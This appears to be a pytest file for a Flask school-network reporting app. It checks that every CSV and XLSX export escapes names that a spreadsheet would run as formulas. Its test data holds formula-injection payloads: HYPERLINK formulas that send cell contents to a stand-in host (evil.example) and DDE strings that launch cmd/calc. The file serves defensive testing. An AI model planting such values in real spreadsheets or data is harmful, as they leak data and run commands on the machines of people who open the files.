"""Every spreadsheet export read back: no cell is a formula, names keep their text (M4).

The data has names that a spreadsheet would run (= + - @ tab): schools, their municipality,
anchors, networks, the programme and the contact person of a registration. Each export route,
CSV and XLSX, full and for publication, is fetched as each role that may read it:
- XLSX (openpyxl): no cell has data_type 'f'; a text cell holds the original text exactly;
  a number written as text is a bug (except institution numbers, which are codes);
- CSV: no cell starts with = + - @ tab or CR unless it is a number; the names are there with
  their leading "'".
The routes come from the app's url_map: a new export (a rule with csv, xlsx or export in it, or a
page that answers ?format=csv with a CSV) that is not in EXPORTS makes this test fail.
"""

import csv
import io
import re
from datetime import date, datetime

import openpyxl
import pytest

from netwerk.extensions import db
from netwerk.networks.models import Registration
from netwerk.reports.exports import CSV_MIMETYPE, XLSX_MIMETYPE
from netwerk.schools.models import School
from netwerk.spreadsheets import FORMULA_STARTS
from tests.hardening.scene import session_user_id
from tests.money.factories import make_grant
from tests.reports.factories import (
    add_call,
    add_hours,
    add_network,
    add_programme,
    add_registration,
    add_school,
    add_user,
)

P = "19/11/2021"
ANCHOR = '=HYPERLINK("https://evil.example/?x="&A2,"Klik hier")'
NETWORK = "@SUM(1+1)*cmd|' /C calc'!A0"
PROGRAMME = "+Programma plus"
SCHOOLS = ["=1+1", "+32 470 12 34 56", "-2+3", "@Deelnemer", "\tDeelnemer tab", "=cmd|'/C calc'!A0"]
MUNICIPALITY = "-Gemeente"
CONTACT = '=HYPERLINK("https://evil.example/?c="&B2,"Contact")'
HOSTILE = {ANCHOR, NETWORK, PROGRAMME, MUNICIPALITY, CONTACT, *SCHOOLS}
# A number as Belgian text ("12", "-1,5"): the one thing a CSV cell may start with '-' for.
NUMBER = re.compile(r"^-?\d+(,\d+)?$")
CSV_MIMETYPES = {CSV_MIMETYPE.split(";")[0], "text/csv"}
XLSX_MIMETYPES = {XLSX_MIMETYPE}


def build_hostile() -> dict[str, int]:
    """One secondary network with six accepted schools, all names hostile; hours in 2021-2022."""
    programme = add_programme(PROGRAMME)
    anchor = add_school(name=ANCHOR)
    coach = add_user("coach")
    network = add_network(
        name=NETWORK, programme_id=programme, anchor_ids=[anchor], coach_ids=[coach]
    )
    add_call(
        programme_id=programme,
        network_ids=[network],
        opens_on=date(2021, 5, 28),
        starts_on=date(2021, 9, 2),
    )
    for name in SCHOOLS:
        school_id = add_school(name=name)
        db.session.get(School, school_id).municipality = MUNICIPALITY
        registration_id = add_registration(
            school_id,
            network,
            ("submitted", date(2021, 6, 1)),
            ("accepted", date(2021, 6, 15)),
        )
        registration = db.session.get(Registration, registration_id)
        registration.contact_name = CONTACT
        registration.contact_email = "x@voorbeeld.be"
    add_hours(network_id=network, worked_on=date(2021, 10, 1), minutes=90)
    make_grant(network_ids=[network], starts_on=date(2021, 9, 1), ends_on=date(2022, 8, 31))
    users = {"admin": add_user("admin"), "ministry": add_user("ministry"), "coach": coach}
    db.session.commit()
    return {"network": network, "programme": programme, **users}


def _exports(ids: dict[str, int]) -> dict[str, list[tuple[str, bool]]]:
    """Per endpoint: (url, names expected) of every download, full and for publication."""
    net, prog = ids["network"], ids["programme"]
    report = f"as_of={P}&programme_id={prog}"
    cell = f"{report}&network_id={net}&level=secundair"
    effort = f"school_year=2021-2022&programme_id={prog}"
    per_format = {
        "reports.participation": [(f"/rapporten/deelname?{report}", True)],
        "reports.participation_list": [
            (f"/rapporten/deelname/scholen?{cell}", True),
            (f"/rapporten/deelname/scholen?{report}", True),
        ],
        "reports.reach": [(f"/rapporten/bereik?{report}", False)],
        "reports.trends": [
            (f"/rapporten/evolutie?{report}&table=registrations", False),
            (f"/rapporten/evolutie?{report}&table=anchors", True),
            (f"/rapporten/evolutie?{report}&table=hours", False),
        ],
        "reports.effort": [
            (f"/rapporten/inzet?{effort}&group_by={group}", True)
            for group in ("anchor_school", "network", "programme")
        ],
        "effort.index": [(f"/inzet/?{effort}&group_by=network", True)],
        "money.report": [
            (f"/geld/rapport?as_of={P}&group_by=network&period={period}", True)
            for period in ("school_year", "grant_period", "calendar_year")
        ],
    }
    exports = {
        endpoint: [
            (f"{url}&format={fmt}{pub}", names)
            for url, names in urls
            for fmt in ("csv", "xlsx")
            for pub in ("", "&publication=1")
            # The list behind a total is not published (M3): its refusal is tested elsewhere.
            if not (pub and endpoint == "reports.participation_list" and "network_id" not in url)
        ]
        for endpoint, urls in per_format.items()
    }
    exports["networks.roster_csv"] = [(f"/netwerken/{net}/aanmeldingen.csv", True)]
    return exports


def _client(app, user_id: int):
    """A test client logged in as the user."""
    client = app.test_client()
    with client.session_transaction() as session:
        session["_user_id"] = session_user_id(app, user_id)
    return client


def _found_exports(app, client) -> set[str]:
    """Endpoints that look like exports: csv/xlsx/export in the rule, or a CSV for ?format=csv."""
    found = set()
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or rule.endpoint == "static":
            continue
        if any(word in rule.rule.lower() for word in ("csv", "xlsx", "export")):
            found.add(rule.endpoint)
        elif not rule.arguments:
            response = client.get(rule.rule + "?format=csv")
            if response.mimetype in CSV_MIMETYPES | XLSX_MIMETYPES:
                found.add(rule.endpoint)
            response.close()
    return found


def _check_csv(data: bytes, names: bool) -> None:
    """No cell can start a formula unless it is a number; the names carry their "'"."""
    assert data.startswith(b"\xef\xbb\xbf")
    cells = [
        c for row in csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";") for c in row
    ]
    risky = [c for c in cells if c.startswith(FORMULA_STARTS) and not NUMBER.match(c)]
    assert not risky
    assert not HOSTILE & set(cells)
    if names:
        assert {"'" + name for name in HOSTILE} & set(cells)


def _check_xlsx(data: bytes, names: bool, figures: bool = True) -> None:
    """No formula cell; text cells hold the original text; numbers are numbers."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    ws = wb.active
    header_row = ws.freeze_panes and ws[ws.freeze_panes].row - 1
    headers = {c.column: str(c.value) for c in ws[header_row]} if header_row else {}
    texts, numbers = set(), 0
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                texts.add(cell.value)
                if cell.value.startswith(FORMULA_STARTS):
                    assert cell.value in HOSTILE, cell.value  # exactly the text entered
                if header_row and cell.row > header_row and NUMBER.match(cell.value):
                    assert "nummer" in headers[cell.column].lower(), (cell.coordinate, cell.value)
            elif isinstance(cell.value, int | float) and not isinstance(cell.value, bool):
                numbers += 1
            else:
                assert cell.value is None or isinstance(cell.value, datetime)
    wb.close()
    assert numbers or not figures, "no figure came back as a number"
    if names:
        assert HOSTILE & texts


def _codes_only(role: str, endpoint: str, url: str) -> bool:
    """Whether the export names no school: the ministry's lists and roster, a published list."""
    lists = ("reports.participation_list", "networks.roster_csv")
    return endpoint in lists and (role == "ministry" or "publication=1" in url)


def test_every_export_is_covered(app):
    """Every route that exports a spreadsheet is fetched by the harness below."""
    with app.app_context():
        ids = build_hostile()
    found = _found_exports(app, _client(app, ids["admin"]))
    assert "networks.roster_csv" in found and "reports.participation" in found
    assert found == set(_exports(ids)), found ^ set(_exports(ids))


@pytest.mark.parametrize("role", ["admin", "ministry", "coach"])
def test_exports_read_back_without_formulas(app, role):
    """Each export as each role that may read it: text stays text, numbers stay numbers."""
    with app.app_context():
        ids = build_hostile()
    client = _client(app, ids[role])
    fetched = 0
    for endpoint, urls in _exports(ids).items():
        for url, names in urls:
            response = client.get(url)
            assert response.status_code == 200, (role, url, response.status_code)
            names = names and not _codes_only(role, endpoint, url)
            try:
                if response.mimetype in CSV_MIMETYPES:
                    # One charset (Flask adds it to a text/ type; never a second one).
                    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
                    _check_csv(response.data, names)
                else:
                    assert response.mimetype in XLSX_MIMETYPES, response.mimetype
                    # A published list has codes, province, net and level: no figures.
                    figures = not (
                        endpoint == "reports.participation_list" and "publication" in url
                    )
                    _check_xlsx(response.data, names, figures)
            except AssertionError as exc:
                raise AssertionError(f"{role} {url}: {exc}") from exc
            fetched += 1
    assert fetched == sum(len(urls) for urls in _exports(ids).values())
